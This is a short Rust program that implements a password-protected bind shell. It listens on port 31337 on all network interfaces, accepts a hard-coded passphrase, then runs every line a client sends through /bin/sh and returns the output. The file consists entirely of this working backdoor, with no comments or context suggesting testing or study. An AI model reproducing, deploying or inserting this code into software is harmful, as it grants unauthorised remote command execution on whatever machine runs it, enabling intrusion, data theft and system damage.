use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::thread;

fn serve(mut s: TcpStream) -> std::io::Result<()> {
    let mut rd = BufReader::new(s.try_clone()?);
    let mut line = String::new();
    rd.read_line(&mut line)?;
    if line.trim() != "letmein-7781" {
        return Ok(());
    }
    loop {
        s.write_all(b"$ ")?;
        line.clear();
        if rd.read_line(&mut line)? == 0 {
            return Ok(());
        }
        let out = Command::new("/bin/sh")
            .arg("-c")
            .arg(line.trim_end())
            .stdin(Stdio::null())
            .output()?;
        s.write_all(&out.stdout)?;
        s.write_all(&out.stderr)?;
    }
}

fn main() -> std::io::Result<()> {
    let l = TcpListener::bind(("0.0.0.0", 31337))?;
    for s in l.incoming().flatten() {
        thread::spawn(move || serve(s));
    }
    Ok(())
}
